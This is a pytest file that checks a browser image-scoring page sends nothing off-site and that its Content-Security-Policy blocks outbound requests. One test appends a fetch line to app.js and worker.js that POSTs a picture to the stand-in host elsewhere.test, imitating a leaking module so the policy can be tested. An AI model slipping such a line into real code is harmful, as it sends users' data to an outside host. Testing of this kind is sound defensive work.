"""Nothing leaves the page: no request goes elsewhere, and the policy would stop one that did."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from page import OpenPage
from serving import PlainHandler, Site, World, serve

SAMPLES = sorted((Path(__file__).parents[2] / "samples").glob("*.jpg"))
QUIET = ("--disable-background-networking", "--disable-component-update", "--disable-sync")
ELSEWHERE = "http://elsewhere.test/"


def test_scoring_asks_for_the_pages_own_files_and_nothing_else(
    page_folder: Path, open_page: OpenPage, world: World
) -> None:
    with serve(page_folder) as site:
        page = open_page(site.address, options=(world.option, *QUIET))
        page.wait_for_demo()
        page.add_pictures(SAMPLES)
        page.run("const s = document.getElementById('blur'); s.value = 50;"
                 "s.dispatchEvent(new Event('input'));")  # fmt: skip
        page.wait(lambda: ", was " in page.text("#lab-change"))
        page.find("#lab-keep").click()
        page.wait_for_scores()
    assert site.asked, "the server saw the page load"
    for method, path in site.asked:
        assert method == "GET"
        assert (page_folder / path.lstrip("/")).exists(), path  # which a query would not
    assert not [call for call in world.called if not _is_the_browsers_own(call)]


def test_a_request_to_elsewhere_would_be_seen(
    open_page: OpenPage, site: Site, world: World
) -> None:
    page = open_page(site.address, options=(world.option, *QUIET))
    page.driver.get(ELSEWHERE)
    assert any(ELSEWHERE in call for call in world.called)
    page.driver.get_log("browser")  # the page that was not there


@pytest.mark.parametrize("module", ["app.js", "worker.js"])
@pytest.mark.parametrize("policy", [True, False])
def test_the_policy_stops_modules_that_send(
    page_folder: Path, tmp_path: Path, open_page: OpenPage, world: World, module: str, policy: bool
) -> None:
    folder = shutil.copytree(page_folder, tmp_path / "page")
    target = f"{ELSEWHERE}{module}/{policy}"
    with (folder / module).open("a") as stream:
        stream.write(
            f'\nawait fetch("{target}", {{method: "POST", body: "a picture"}}).catch(() => {{}});\n'
        )
    if not policy:
        index = folder / "index.html"
        without = index.read_text("utf-8").replace("Content-Security-Policy", "X-None")
        index.write_text(without, encoding="utf-8")
    with serve(folder) as site:
        page = open_page(site.address, options=(world.option, *QUIET))
        page.wait_for_demo()
        page.wait(lambda: page.driver.get_log("browser"))  # refused by the policy, or by the proxy
    assert any(target in call for call in world.called) is not policy


def _is_the_browsers_own(call: str) -> bool:
    """Chromium asks its maker for updates and settings, whatever page is open."""
    hosts = ("google.com", "googleapis.com", "gvt1.com", "gstatic.com")
    return any(f"{host}:443" in call or f"{host}/" in call for host in hosts)


def test_the_page_scores_on_a_server_that_cannot_isolate_it(
    page_folder: Path, open_page: OpenPage
) -> None:
    with serve(page_folder, PlainHandler) as site:
        page = open_page(site.address)
        page.wait_for_demo()
        assert page.text("#bundle-status") == "Demo encoder \u00b7 WebAssembly SIMD, 1 thread"
        assert page.run("return crossOriginIsolated") is False
